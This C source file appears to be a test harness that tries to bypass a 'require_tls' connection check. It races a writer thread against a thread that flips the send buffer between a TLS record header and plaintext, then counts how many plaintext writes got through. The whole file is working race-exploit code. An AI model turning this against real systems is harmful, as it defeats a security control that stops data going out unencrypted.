/*
 * Check, then use: one thread writes five bytes on a fresh require_tls
 * connection while another flips the same buffer between a TLS record
 * header and plaintext. Whenever the check saw the header and the kernel
 * copied the plaintext, the server receives "PLAIN". Each refused attempt
 * costs its connection, so it tries again on a new one, until WANT writes
 * went through or LIMIT seconds passed. Usage: race_flip_send HOST PORT
 * [WANT [LIMIT]]. Prints "RACED attempts=A written=W refused=R".
 */
#include <pthread.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdint.h>
#include <time.h>

#include "bypass.h"

/* Eight bytes, written whole by one store: the first five are what is sent. */
static _Alignas(8) _Atomic uint64_t buffer;
static atomic_bool done;

static uint64_t bytes_of(const char *five)
{
	uint64_t v = 0;

	memcpy(&v, five, 5);
	return v;
}

static void *flipper(void *arg)
{
	uint64_t header = bytes_of("\x16\x03\x01\x02\x00"), plain = bytes_of("PLAIN");

	(void)arg;
	while (!atomic_load_explicit(&done, memory_order_relaxed)) {
		atomic_store_explicit(&buffer, header, memory_order_relaxed);
		atomic_store_explicit(&buffer, plain, memory_order_relaxed);
	}
	return NULL;
}

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
	int port = bp_args(argc, argv, "HOST PORT [WANT [LIMIT]]");
	int want = argc > 3 ? atoi(argv[3]) : 400;
	double limit = argc > 4 ? atof(argv[4]) : 5.0, start = now();
	int attempts = 0, written = 0, refused = 0, fd;
	struct sockaddr_storage sa;
	socklen_t len = bp_addr(&sa, argv[1], port);
	pthread_t t;

	atomic_store(&buffer, bytes_of("\x16\x03\x01\x02\x00"));
	if (len == 0 || pthread_create(&t, NULL, flipper, NULL) != 0) {
		printf("SETUP_FAILED\n");
		return 2;
	}
	while (written < want && now() - start < limit) {
		fd = socket(sa.ss_family, SOCK_STREAM, 0);
		if (fd < 0 || connect(fd, (struct sockaddr *)&sa, len) < 0) {
			printf("SETUP_FAILED connect %s\n", strerrorname_np(errno));
			return 2;
		}
		attempts++;
		if (write(fd, (const void *)&buffer, 5) == 5) {
			written++;
		} else {
			refused++;
		}
		close(fd);
	}
	atomic_store(&done, true);
	pthread_join(t, NULL);
	printf("RACED attempts=%d written=%d refused=%d\n", attempts, written, refused);
	return 0;
}
